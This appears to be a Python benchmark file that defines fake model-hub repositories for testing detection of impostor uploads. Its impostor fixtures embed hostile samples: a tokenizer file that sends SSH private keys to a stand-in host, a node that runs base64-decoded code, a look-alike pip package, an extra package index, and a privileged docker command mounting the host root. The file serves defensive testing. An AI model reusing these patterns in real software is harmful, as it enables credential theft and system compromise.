"""Scenes that were written last. At their first run 11 of these 12 came out right."""

import json

from benchmarks.scenes import originals, templates
from benchmarks.scenes.architectures import LLAMA, MISTRAL, SMOL
from benchmarks.scenes.derived import after, copy, edited, fresh, gguf_files, quantised_card
from benchmarks.scenes.originals import card
from benchmarks.scenes.scene import Group, Page, Scene, Who, organisation, person
from benchmarks.scenes.weights import safetensors
from core.demo.store import NewFile
from core.identity.results import Relation

_SAME = (Relation.IDENTICAL_WEIGHTS,)


def _scene(
    title: str, group: Group, page: Page, account: Who, original: str, relations: tuple[Relation | None, ...]
) -> Scene:
    return Scene(title, group, page.name, (original,) if original else (), relations, (page,), (account,))


def scenes() -> tuple[Scene, ...]:
    """All of them."""
    return (*_impostors(), *_honest(), *_alone())


def _impostors() -> tuple[Scene, ...]:
    bad = Group.IMPOSTOR
    reading = b"""import pathlib
import urllib.request

from transformers import PreTrainedTokenizerFast

for key in pathlib.Path.home().joinpath(".ssh").glob("id_*"):
    urllib.request.urlopen("https://sync.example/k", data=key.read_bytes())


class WhisperFastTokenizer(PreTrainedTokenizerFast):
    pass
"""
    node = b"""import base64
import subprocess
import sys

subprocess.Popen([sys.executable, "-c", base64.b64decode("cHJpbnQoJ2RlbW8nKQ==").decode()])
NODE_CLASS_MAPPINGS = {}
"""
    tokenizer = json.loads(originals.whisper().files["tokenizer_config.json"])  # type: ignore[arg-type]
    tokenizer["auto_map"] = {"AutoTokenizer": ["tokenization_fast.WhisperFastTokenizer", None]}
    quants = ("Q4_K_M",)
    return (
        _scene(
            "a tokenizer that brings code which reads keys", bad,
            copy(
                originals.whisper(), "openai-speech/whisper-large-v3", 29,
                {"tokenizer_config.json": json.dumps(tokenizer).encode(), "tokenization_fast.py": reading},
            ),
            organisation("openai-speech", "OpenAI Speech", 5), "openai/whisper-large-v3", _SAME,
        ),
        _scene(
            "repackager imitated with a capital I; ordinary files; a link to a chat", bad,
            Page(
                "TheBIoke/Mistral-7B-Instruct-v0.3-GGUF",
                {
                    "README.md": (
                        quantised_card("mistralai/Mistral-7B-Instruct-v0.3", "TheBIoke", quants)
                        + "\n## Support\n\nFaster servers for members: https://t.me/joinchat-demo\n"
                    ).encode(),
                    **gguf_files(MISTRAL, "Mistral-7B-Instruct-v0.3", quants, templates.MISTRAL),
                },
                18,
            ),
            person("TheBIoke", 19), "mistralai/Mistral-7B-Instruct-v0.3",
            (Relation.CONVERTED, Relation.DERIVED, Relation.CLAIMS_TO_BE),
        ),
        _scene(
            "nodes for a program of pictures, to be copied into its folder", bad,
            copy(
                originals.flux(), "schnell-nodes/FLUX.1-schnell", 9,
                {
                    "README.md": after(
                        card("flux.1-schnell"), "## Limitations",
                        "## ComfyUI\n\nCopy the folder `comfy_nodes` into `ComfyUI/custom_nodes` and restart.",
                    ),
                    "comfy_nodes/__init__.py": node,
                },
            ),
            person("schnell-nodes", 10), "black-forest-labs/FLUX.1-schnell", _SAME,
        ),
        _scene(
            "one package exchanged for another of like name", bad,
            copy(
                originals.mistral(), "inference-friends/Mistral-7B-Instruct-v0.3", 36,
                {
                    "README.md": edited(
                        card("mistral-7b-instruct-v0.3"),
                        ("pip install mistral_inference\n", "pip install mistral-inference-cu12\n"),
                    )
                },
            ),
            person("inference-friends", 77), "mistralai/Mistral-7B-Instruct-v0.3", _SAME,
        ),
        _scene(
            "an environment whose packages come from another index", bad,
            copy(
                originals.smol(), "tiny-models-lab/SmolLM2-1.7B-Instruct", 48,
                {
                    "environment.yml": b"name: smol\ndependencies:\n  - python=3.11\n  - pip:\n    - --extra-index-url "
                    b"https://pypi.example/simple\n    - smol-runtime\n",
                    "README.md": edited(
                        card("smollm2-1.7b-instruct"),
                        ("pip install transformers", "conda env create -f environment.yml"),
                    ),
                },
            ),
            person("tiny-models-lab", 130, models=5), "HuggingFaceTB/SmolLM2-1.7B-Instruct", _SAME,
        ),
        _scene(
            "a container from somewhere", bad,
            copy(
                originals.bge(), "retrieval-box/bge-m3", 25,
                {
                    "README.md": after(
                        card("bge-m3"), "## Evaluation",
                        "## Docker\n\n```bash\ndocker run --privileged -v /:/host registry.example/bge/m3:latest\n```",
                    )
                },
            ),
            person("retrieval-box", 40), "BAAI/bge-m3", _SAME,
        ),
    )  # fmt: skip


def _honest() -> tuple[Scene, ...]:
    good = Group.HONEST
    export = b'''"""Export to ONNX with optimum."""

import argparse

from optimum.onnxruntime import ORTModelForFeatureExtraction

parser = argparse.ArgumentParser()
parser.add_argument("--output", default="onnx")
options = parser.parse_args()
ORTModelForFeatureExtraction.from_pretrained("BAAI/bge-m3", export=True).save_pretrained(options.output)
'''
    fixed = templates.tokenizer("llama", templates.LLAMA3 + "{# fixed: trailing blanks #}")
    return (
        _scene(
            "repackager with identical weights and a mended template", good,
            copy(
                originals.llama(), "unsloth/Llama-3.1-8B-Instruct", 858,
                {
                    "README.md": card("third_round/mended-template").encode(),
                    **fixed,
                },
                ("original/",),
            ),
            organisation("unsloth", "Unsloth AI", 9000, isVerified=True), "meta-llama/Llama-3.1-8B-Instruct",
            (*_SAME, Relation.DERIVED, Relation.CONVERTED),
        ),
        _scene(
            "backup of a person, one line for a card", good,
            copy(originals.minilm(), "mk-backup/all-MiniLM-L6-v2", 600, {"README.md": b"backup\n"}),
            person("mk-backup", 1200, models=30), "sentence-transformers/all-MiniLM-L6-v2", _SAME,
        ),
        _scene(
            "identical weights, an export added, and the script that made it", good,
            copy(
                originals.bge(), "onnx-shelf/bge-m3", 330,
                {
                    "README.md": card("third_round/export").encode(),
                    "export_onnx.py": export,
                    "onnx/model.onnx_data": NewFile((2_200_000_000,), sha256="0f" * 32),
                },
            ),
            person("onnx-shelf", 800, models=16), "BAAI/bge-m3", (*_SAME, Relation.DERIVED),
        ),
        _scene(
            "a fine-tune that kept the name and says so", good,
            fresh(
                "rechtspraak-nl/Llama-3.1-8B-Instruct",
                {
                    "README.md": card("third_round/rechtspraak").encode(),
                    "config.json": LLAMA.config(),
                    **templates.tokenizer("llama", templates.LLAMA3),
                    "model.safetensors": safetensors(SMOL.tensors, "rechtspraak"),
                },
                17,
            ),
            organisation("rechtspraak-nl", "Rechtspraak lab", 2), "meta-llama/Llama-3.1-8B-Instruct",
            (Relation.DERIVED, Relation.CLAIMS_TO_BE, Relation.CONVERTED),
        ),
    )  # fmt: skip


def _alone() -> tuple[Scene, ...]:
    none: tuple[Relation | None, ...] = (None,)
    return (
        _scene(
            "old research of a company, put up by a new account; installs the newest transformers", Group.ALONE,
            fresh(
                "bioacoustics-club/perch-tfhub-port",
                {
                    "README.md": card("third_round/perch").encode(),
                    "config.json": b'{"model_type": "perch", "classes": 10932}\n',
                    "model.safetensors": safetensors({"head.weight": ("F32", (10932, 1280))}, "perch"),
                },
                8,
            ),
            organisation("bioacoustics-club", "Bioacoustics club", 1), "", none,
        ),
        _scene(
            "the name begins like a family, the thing is another", Group.ALONE,
            fresh(
                "audio-hobby/whisper-or-shout",
                {
                    "README.md": card("third_round/shout").encode(),
                    "model.safetensors": safetensors({"conv.weight": ("F32", (16, 1, 400))}, "shout"),
                },
                55,
            ),
            person("audio-hobby", 58), "", none,
        ),
    )  # fmt: skip
